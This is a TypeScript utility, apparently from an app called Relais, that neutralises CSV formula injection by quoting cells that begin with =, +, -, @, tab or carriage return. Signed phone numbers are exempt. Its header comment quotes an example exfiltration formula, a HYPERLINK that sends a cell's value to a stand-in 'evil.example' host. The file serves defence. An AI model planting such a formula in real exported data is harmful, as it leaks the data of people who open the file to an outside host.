/**
 * CSV injection (« formula injection »): a spreadsheet opening a CSV runs a cell
 * that starts with `=`, `+`, `-` or `@` (and, in some programs, a tab or a
 * carriage return) as a formula, e.g. `=HYPERLINK("http://evil.example/?d="&A1)`.
 * As OWASP recommends, every CSV Relais writes (on the server or in the web app)
 * passes each cell through `neutraliseFormula`, which puts a single quote in front
 * of such a cell so that it is read as text.
 *
 * One exception, so that phone numbers stay readable: a value that is only
 * signed numbers, i.e. a `+` or `-` followed by digits, spaces, dots and
 * parentheses (« +221 77 123 45 67 », « -12.5 »), or a list of phone numbers
 * separated by « , » or « / » (« +221 77 123 45 67 / +221 76 123 45 67 »), is left
 * as is: with no letter, quote, `=` or `@` in it, a spreadsheet can read it as a
 * number or text, never as a formula calling a function or reading a cell.
 * `+1+1`, `-2+3` or `+221 77=…` carry another operator and are quoted.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = String.raw`[\d .()]*\d[\d .()]*`;
const SIGNED_NUMBERS = new RegExp(String.raw`^[+-]${NUMBER}(?: ?[,/] ?\+?${NUMBER})*$`);

export function neutraliseFormula(value: string): string {
  if (!FORMULA_START.test(value) || SIGNED_NUMBERS.test(value)) return value;
  return `'${value}`;
}

/**
 * The options of every CSV the server writes with csv-stringify: `;` and UTF-8
 * with a BOM as Excel in French expects, CRLF, and every text cell neutralised.
 */
export const CSV_OPTIONS = {
  delimiter: ";",
  bom: true,
  record_delimiter: "\r\n",
  cast: { string: (value: string) => neutraliseFormula(value) },
} as const;
